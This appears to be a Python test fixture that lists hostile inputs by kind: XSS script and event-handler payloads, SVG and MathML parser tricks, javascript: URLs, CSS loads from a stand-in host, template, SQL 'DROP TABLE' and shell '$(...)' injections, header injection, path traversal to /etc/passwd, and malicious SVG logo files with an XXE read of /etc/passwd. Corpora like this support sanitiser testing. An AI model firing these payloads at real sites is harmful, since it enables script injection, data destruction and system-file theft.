"""What people put where words are asked for, so that it runs, leaves the page, or shows as more.

Each string would call ``ran`` or ask ``elsewhere.example`` for something, if a program took it for
anything but words. Own work, by kind; the kinds are those that OWASP and browsers' notes name.
"""

from __future__ import annotations

AWAY = "http://elsewhere.example"

_MARKUP = (
    "<script>ran(1)</script>",
    "<SCRIPT >ran(1)</SCRIPT\t>",
    f"<script src={AWAY}/x.js></script>",
    "<script type=module>ran(1)</script>",
    "<script>ran(1)//",
    "</script><script>ran(1)</script>",
    "--><script>ran(1)</script><!--",
    "]]><script>ran(1)</script><![CDATA[",
    "</title></textarea></style><script>ran(1)</script>",
    "<scr<script>ipt>ran(1)</scr</script>ipt>",
    "%3Cscript%3Eran(1)%3C/script%3E",
    "&lt;script&gt;ran(1)&lt;/script&gt;",
    "&#60;script&#62;ran(1)&#60;/script&#62;",
    "\\u003cscript\\u003eran(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3eran(1)\\x3c/script\\x3e",
)
_HANDLERS = (
    "<img src=x onerror=ran(1)>",
    "<img/src=x/onerror=ran(1)>",
    '"><img src=x onerror=ran(1)>',
    "'><img src=x onerror=ran(1)>",
    '" autofocus onfocus=ran(1) x="',
    "' onmouseover='ran(1)",
    "x onerror=ran(1)",
    "<body onload=ran(1)>",
    "<details open ontoggle=ran(1)>x",
    "<input autofocus onfocus=ran(1)>",
    "<video><source onerror=ran(1)></video>",
    "<marquee onstart=ran(1)>x</marquee>",
    "<a href=# onclick=ran(1) autofocus tabindex=0 onfocus=ran(1)>x</a>",
    "<x id=x tabindex=1 onfocus=ran(1) autofocus>",
    "<div popover id=p onbeforetoggle=ran(1)></div><button popovertarget=p>x</button>",
)
_FOREIGN = (
    "<svg onload=ran(1)>",
    "<svg><script>ran(1)</script></svg>",
    "<svg><animate onbegin=ran(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:ran(1)><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=ran(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran(1)>",
    "<math href=javascript:ran(1)>x</math>",
    "<template><img src=x onerror=ran(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=ran(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=ran(1)>'>",
    "<select><iframe></select><img src=x onerror=ran(1)>",
)
_ADDRESSES = (
    "javascript:ran(1)",
    "JaVaScRiPt:ran(1)//",
    "java\tscript:ran(1)",
    "\u0001javascript:ran(1)",
    "javascript&colon;ran(1)",
    "data:text/html,<script>ran(1)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran(1)'/>",
    f"//{AWAY.removeprefix('http://')}/x",
    f"{AWAY}/?x=1",
    f"<iframe src={AWAY}></iframe>",
    "<iframe srcdoc='<script>parent.ran(1)</script>'></iframe>",
    f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<form action={AWAY}><button autofocus>x</button></form>",
    f"<object data={AWAY}/x></object><embed src={AWAY}/x>",
)
_STYLES = (
    f"<style>@import '{AWAY}/x.css'</style>",
    f"<p style='background:url({AWAY}/x.png)'>x</p>",
    f"}}body{{background:url({AWAY}/x.png)}}",
    "<style>*{display:none!important}</style>",
    "<div style='position:fixed;inset:0;background:#fff'>all is well</div>",
)
_PROGRAMS = (
    "${ran(1)}",
    "`${ran(1)}`",
    "{{constructor.constructor('ran(1)')()}}",
    "{% for x in [] %}{{ ran(1) }}{% endfor %}",
    "#{ran(1)}",
    "');ran(1);//",
    '";ran(1);"',
    "\\';ran(1);//",
    "\u2028ran(1)\u2029",
    '{"__proto__":{"ran":1}}',
    "__proto__",
    "constructor",
    "'; DROP TABLE codes; --",
    "$(ran 1)",
    "[x](javascript:ran(1))",
    "![x](x){: onerror=ran(1) }",
)
_BYTES = (
    "\u0000<script>ran(1)</script>",
    "<img src=x\u0000onerror=ran(1)>",
    "\ufeff<script>ran(1)</script>",
    "\uff1cscript\uff1eran(1)\uff1c/script\uff1e",
    "\u202e<script>ran(1)</script>",
    "\u00ad\u200b\u2060javascript:ran(1)",
    "x\r\nSet-Cookie: ran=1\r\n\r\n<script>ran(1)</script>",
    "x\nLocation: http://elsewhere.example/",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%00../index.html%00",
    "a\u0301" * 40 + "<svg onload=ran(1)>",
    "A" * 3000 + "<img src=x onerror=ran(1)>",
    "\U0001f489<img src=x onerror=ran(1)>\U0001f489",
    "&" * 50 + "<svg/onload=ran(1)>",
)
STRINGS = (*_MARKUP, *_HANDLERS, *_FOREIGN, *_ADDRESSES, *_STYLES, *_PROGRAMS, *_BYTES)

_HEAD = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'"
_SVG = f"{_HEAD} viewBox='0 0 9 9'"
# Files that somebody may choose for a logo, by their names.
LOGOS = {
    "script.svg": f"{_SVG}><script>ran(1)</script><path d='M0 0H9V9Z'/></svg>",
    "handler.svg": f"{_SVG} onload='ran(1)'><path d='M0 0H9V9Z'/></svg>",
    "link.svg": f"{_SVG}><a xlink:href='javascript:ran(1)'><path d='M0 0H9V9Z'/></a></svg>",
    "foreign.svg": f"{_SVG}><foreignObject width='9' height='9'><iframe "
    f"xmlns='http://www.w3.org/1999/xhtml' src='{AWAY}'/></foreignObject></svg>",
    "picture.svg": f"{_SVG}><image href='{AWAY}/x.png' width='9' height='9'/></svg>",
    "used.svg": f"{_SVG}><use href='{AWAY}/x.svg#a'/></svg>",
    "sheet.svg": f"<?xml-stylesheet href='{AWAY}/x.css'?>{_SVG}><path d='M0 0H9V9Z'/></svg>",
    "import.svg": f"{_SVG}><style>@import '{AWAY}/x.css';</style><path d='M0 0H9V9Z'/></svg>",
    "entity.svg": f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{_SVG}>"
    "<text>&x;</text></svg>",
    "animated.svg": f"{_SVG}><set attributeName='onload' to='ran(1)'/></svg>",
    "page.png": "<!doctype html><script>ran(1)</script>",
    "both.png": "\x89PNG\r\n\x1a\n<script>ran(1)</script>",
}
